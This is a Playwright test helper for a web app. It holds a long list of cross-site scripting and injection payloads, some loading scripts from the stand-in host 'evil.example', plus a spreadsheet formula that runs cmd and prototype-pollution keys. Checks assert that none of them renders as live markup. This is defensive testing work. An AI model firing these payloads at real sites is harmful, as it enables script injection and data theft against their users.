import { expect, type Page } from '@playwright/test'

/** What a script of a field would do if it ran. */
const act = 'window.xss=1'
const elsewhere = 'evil.example'

/** Strings that somebody may put where a flag, a key or a label belongs; each has a number at its end, so that they differ. */
export const hostile: readonly string[] = [
  `<script>${act}</script>`,
  `</script><script>${act}</script>`,
  `"><script src=//${elsewhere}/x.js></script>`,
  `<SCRIPT/SRC=data:,${act}>`,
  `<img src=x onerror=${act}>`,
  `<img src=//${elsewhere}/pixel.gif>`,
  `"><svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  `<iframe srcdoc="<script>parent.xss=1</script>">`,
  `<iframe src=javascript:${act}>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src=//${elsewhere}/x.swf>`,
  `<details open ontoggle=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<a href="javascript:${act}">click</a>`,
  `<form action="javascript:${act}"><button>send</button></form>`,
  `<form id=location><input name=href>`,
  `<base href=//${elsewhere}/>`,
  `<meta http-equiv=refresh content="0;url=//${elsewhere}">`,
  `<link rel=stylesheet href=//${elsewhere}/x.css>`,
  `</style><style>*{background:url(//${elsewhere}/x)}</style>`,
  `<p style="animation-name:x" onanimationstart=${act}>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `--><script>${act}</script><!--`,
  `]]><script>${act}</script>`,
  `</textarea></title><script>${act}</script>`,
  `<div id=__next_f></div><div name=location>`,
  `javascript:${act}//`,
  `data:text/html,<script>${act}</script>`,
  `//${elsewhere}/a`,
  `https://${elsewhere}/?a=b&c=<d>`,
  `[link](javascript:${act})`,
  `![image](//${elsewhere}/x.png)`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `#{${act}} <%= ${act} %>`,
  `'-${act}-'`,
  `"-${act}-"`,
  `\`-${act}-\``,
  `\\"});${act};//`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#x3c;script&#x3e;${act}&#x3c;/script&#x3e;`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\u202egnp.exe\u202c\u2066x\u2069`,
  `nul\u0000 bell\u0007 escape\u001b[31m`,
  `lone \ud800 halves \udfff`,
  `line\nbreaks\r\nSet-Cookie: a=b\u2028\u2029`,
  `zero\u200bwidth\ufeff\u00ad`,
  `=HYPERLINK("//${elsewhere}","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `__proto__`,
  `constructor`,
  `toString`,
  `\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 e\u0301\u0301\u0301`,
  `(a|b) -x:* flag:"y`,
  `expression(${act}) url(//${elsewhere}/x)`,
]

type Watched = { readonly told: () => readonly string[] }

/** Watches for whatever a page does only when a field has got power over it. Before the page is opened. */
export async function watchPage(page: Page, origin: string): Promise<Watched> {
  const told: string[] = []
  page.on('dialog', (dialog) => {
    told.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', (popup) => told.push(`a window: ${popup.url()}`))
  page.on('pageerror', (error) => told.push(`an error: ${error.message}`))
  page.on('console', (message) => {
    if (message.type() === 'error' || message.type() === 'warning') told.push(`${message.type()}: ${message.text()}`)
  })
  page.on('request', (request) => {
    const url = request.url()
    const isOurs = url.startsWith(`${origin}/`) || url.startsWith(`${origin.replace('http', 'ws')}/`)
    if (!isOurs && !url.startsWith('data:image/') && !url.startsWith('blob:')) told.push(`a request: ${url}`)
  })
  await page.addInitScript(() => {
    const refused: string[] = []
    Object.assign(window, { refused })
    addEventListener('securitypolicyviolation', (event) => {
      refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`)
    })
  })
  return { told: () => told }
}

/** Expects that no field has become anything but text. */
export async function expectHarmless(page: Page, watched: Watched): Promise<void> {
  const found = await page.evaluate(() => {
    const forbidden =
      'iframe, object, embed, video, audio, source, base, math, template, frame, applet, style:not([data-precedence]), ' +
      '[srcdoc], [style*="evil"], [src*="evil"], [href*="evil"], [href^="javascript"], [action], meta[http-equiv], ' +
      '[data-id] :is(a, img, script, form, input, textarea, details)'
    const isAddress = /^(href|src|action|formaction|data|srcdoc|style|poster|xlink:href)$/i
    const elements = [...document.querySelectorAll(forbidden)]
    const handlers = [...document.querySelectorAll('*')].filter((element) =>
      [...element.attributes].some(
        ({ name, value }) => /^on/i.test(name) || (isAddress.test(name) && /javascript:|evil/i.test(value)),
      ),
    )
    const foreign = [...document.scripts].filter(
      ({ src }) => src !== '' && !src.startsWith(`${location.origin}/_next/`),
    )
    const all = [...elements, ...handlers, ...foreign].map((element) => element.outerHTML.slice(0, 200))
    const { refused, xss } = window as unknown as { refused: readonly string[]; xss: unknown }
    return { all, refused, xss, polluted: Object.keys(Object.prototype), title: document.title.includes('<') }
  })
  expect(found).toEqual({ all: [], refused: [], xss: undefined, polluted: [], title: false })
  expect(watched.told()).toEqual([])
}
